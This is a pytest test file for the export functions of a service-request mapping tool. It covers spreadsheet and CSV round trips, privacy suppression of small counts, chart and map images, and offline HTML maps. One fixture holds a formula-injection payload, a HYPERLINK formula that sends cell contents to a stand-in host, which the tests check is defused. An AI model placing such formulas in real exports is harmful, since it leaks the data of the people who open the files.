"""Downloads opened and read back: XLSX and CSV rows, the map and chart pictures, the offline map."""

import io
import re

import folium
import numpy as np
import pandas as pd
import pytest
from branca.element import Element
from PIL import Image

from needsmap import exports, maps, queries, store
from needsmap.filters import Filter
from tests.records import RECORDS

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
EXTRA = [
    dict(record_id="F-1", description=FORMULA, address="+86 不是公式", created_at=pd.Timestamp("2025-06-10 10:00"),
         status="resolved"),
    dict(record_id="F-2", description="@SUM(1,2)", address="-1", created_at=pd.Timestamp("2025-06-11 10:00"),
         category="elderly_care", district_adcode="330127", urban_rural="rural"),
]


@pytest.fixture
def db(make_db):
    return make_db(RECORDS + EXTRA)


def _image(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(data)).convert("RGB")


def _distinct_colours(image: Image.Image) -> int:
    return len(image.getcolors(maxcolors=1_000_000))


def test_xlsx_round_trips_the_filtered_records(db):
    flt = Filter(categories=("water",))
    with store.open_readonly(db) as con:
        table = exports.download_table(con, flt, lang="zh")
        expected_ids = set(queries.records(con, flt, limit=1_000)["record_id"])
    back = pd.read_excel(io.BytesIO(exports.to_xlsx_bytes(table)), engine="openpyxl", dtype={"工单编号": str, "区划代码": str})
    assert list(back.columns) == list(table.columns)
    assert set(back["工单编号"]) == expected_ids == {"R1", "R2", "R3", "F-1"}
    assert len(back) == len(table) == 4
    # Every cell reads back as written: texts (formula cells defused with a leading quote), times, numbers.
    written = exports._defuse_formulas(table)
    for column in table.columns:
        left, right = back[column], written[column]
        if pd.api.types.is_datetime64_any_dtype(right):
            assert (pd.to_datetime(left).fillna(pd.Timestamp(0)) == right.fillna(pd.Timestamp(0))).all(), column
        elif pd.api.types.is_numeric_dtype(right):
            assert np.allclose(left.astype(float), right.astype(float), equal_nan=True), column
        else:
            assert left.astype(object).fillna("").astype(str).tolist() == right.astype(object).fillna("").astype(str).tolist(), column
    row = back.set_index("工单编号").loc["F-1"]
    assert row["诉求内容"] == "'" + FORMULA and row["地址"] == "'+86 不是公式"
    assert row["类别"] == "供水" and row["城乡"] == "城区" and row["区县"] == "西湖区"
    assert "requester_hash" not in back.columns and "经度" not in back.columns


def test_csv_is_utf8_with_bom_and_formulas_are_defused(db):
    with store.open_readonly(db) as con:
        table = exports.download_table(con, Filter(), lang="zh")
    data = exports.to_csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str).set_index("工单编号")
    assert len(back) == len(RECORDS) + len(EXTRA)
    assert back.loc["F-1", "诉求内容"] == "'" + FORMULA
    assert back.loc["F-2", "诉求内容"] == "'@SUM(1,2)" and back.loc["F-2", "地址"] == "'-1"
    assert back.loc["R1", "诉求内容"] == "停水"


def test_public_download_holds_district_aggregates_with_small_counts_left_out(db, monkeypatch):
    monkeypatch.setenv("NEEDSMAP_K_ANONYMITY", "4")
    with store.open_readonly(db) as con:
        table = exports.download_table(con, Filter(city_adcode="330100"), lang="zh", public=True)
    assert "工单编号" not in table.columns and "诉求内容" not in table.columns
    assert len(table) == 13  # 杭州市's districts
    by_name = table.set_index("区县")
    west = by_name.loc["西湖区"]  # 4 records (R1–R3, F-1): exactly k, but from 3 people (R1 and R2 are one caller)
    assert west["记录过少（数值不显示）"] and pd.isna(west["记录数"]) and pd.isna(west["独立诉求人"])
    assert pd.isna(west["未办结"])
    chunan = by_name.loc["淳安县"]  # 3 records (R4, R5, F-2): under k, nothing but its population shown
    assert chunan["记录过少（数值不显示）"] and pd.isna(chunan["记录数"]) and pd.isna(chunan["每万人诉求数"])
    assert by_name.loc["建德市", "记录数"] == 0


def test_map_png_has_the_asked_size_and_is_drawn(db):
    with store.open_readonly(db) as con:
        geometries = queries.district_geometries(con)
        measures = queries.district_measures(con, Filter(), queries.as_of(con), 15, 1)
    data = exports.map_png(geometries, measures, "records", title="诉求数", legend_title="诉求数", no_data_label="无数据",
                           subtitle="浙江省 · 2025年6月", width_px=1000, height_px=750, dpi=100)
    image = _image(data)
    assert image.size == (1000, 750)
    assert _distinct_colours(image) > 200  # shapes, anti-aliased edges and text, not a blank canvas
    # The colour of a class with records is on the picture (classes over the districts with data).
    breaks = maps.class_breaks(measures["records"].astype(float))
    highest = tuple(int(maps.colour_for(breaks[-1], breaks)[i:i + 2], 16) for i in (1, 3, 5))
    assert highest in {colour for _, colour in image.getcolors(maxcolors=1_000_000)}


def test_bars_png_has_the_asked_size_and_is_drawn():
    image = _image(exports.bars_png(["养老服务", "供水"], [12, 30], title="类别构成", width_px=800, height_px=500, dpi=100))
    assert image.size == (800, 500)
    assert _distinct_colours(image) > 50


def test_map_html_is_self_contained(db):
    with store.open_readonly(db) as con:
        geometries = queries.district_geometries(con)
        measures = queries.district_measures(con, Filter(), queries.as_of(con), 15, 1)
    measures["value_text"], measures["top_text"] = "1", "供水"
    fmap = maps.choropleth(geometries, measures[["adcode", "records", "value_text", "top_text"]], "records",
                           title="诉求数", field_labels=["区县", "城市", "诉求数", "类别"], no_data_label="无数据")
    page = exports.map_html(fmap, title="诉求数 · 浙江省")
    assert "<title>诉求数 · 浙江省</title>" in page
    assert not re.search(r"<(script|link|img)[^>]+(src|href)=[\"']?(https?:)?//", page)
    assert "/app/static" not in page and "url(images/" not in page
    assert "L.map(" in page and page.count('"adcode"') == 90
    assert re.search(r"<script>\s*/\* @preserve\s+\* Leaflet", page)  # Leaflet itself, inline


def test_map_html_refuses_a_map_that_loads_from_elsewhere(db):
    fmap = maps.OfflineMap(location=[29, 120], tiles=None)
    fmap.get_root().html.add_child(Element('<img src="https://example.com/pixel.png">'))
    with pytest.raises(ValueError, match="URLs outside the file"):
        exports.map_html(fmap)
    assert isinstance(fmap, folium.Map)


def test_missing_cjk_font_is_one_clear_sentence(monkeypatch, tmp_path):
    monkeypatch.setenv("NEEDSMAP_CJK_FONT", str(tmp_path / "no-such-font.ttc"))
    exports.cjk_font.cache_clear()
    try:
        with pytest.raises(exports.FontMissingError, match=r"install fonts-noto-cjk or set NEEDSMAP_CJK_FONT"):
            exports.cjk_font()
    finally:
        monkeypatch.undo()
        exports.cjk_font.cache_clear()
    assert exports.cjk_font()[0][0].is_file()


def test_dollar_signs_in_names_are_drawn_as_text_not_parsed_as_math():
    # Before: matplotlib read "$…$" as mathtext, so a district named like this broke the PNG and briefing exports.
    png = exports.bars_png(["$\\nosuchcommand$ 区", "$x^2$"], [3, 1], title="$\\frac{$ 标题")
    assert Image.open(io.BytesIO(png)).size == (1600, 1000)


def test_files_made_from_demo_data_carry_the_mark_above_the_header(demo_db, db):
    import openpyxl

    badge = "演示数据（合成记录，非真实诉求）"
    flt = Filter(district_adcode="330106", city_adcode="330100")
    with store.open_readonly(demo_db) as con:
        expected_rows = len(queries.export_records(con, flt, limit=queries.EXPORT_ROW_CAP))
    lines = exports.table_bytes(demo_db, flt, "csv").decode("utf-8-sig").splitlines()
    assert lines[0] == badge and lines[1].startswith("工单编号,")
    # Read as a planner's tool would: the mark is a title line, the table starts under it.
    table = pd.read_csv(io.BytesIO(exports.table_bytes(demo_db, flt, "csv")), skiprows=1, encoding="utf-8-sig")
    assert len(table) == expected_rows
    sheet = openpyxl.load_workbook(io.BytesIO(exports.table_bytes(demo_db, flt, "xlsx"))).active
    assert sheet["A1"].value == badge and sheet["A1"].font.bold
    assert sheet["A2"].value == "工单编号" and sheet.max_row == expected_rows + 2
    # Imported (not generated) records: no mark, the header on the first line.
    assert exports.table_bytes(db, Filter(), "csv").decode("utf-8-sig").startswith("工单编号,")
    assert openpyxl.load_workbook(io.BytesIO(exports.table_bytes(db, Filter(), "xlsx"))).active["A1"].value == "工单编号"
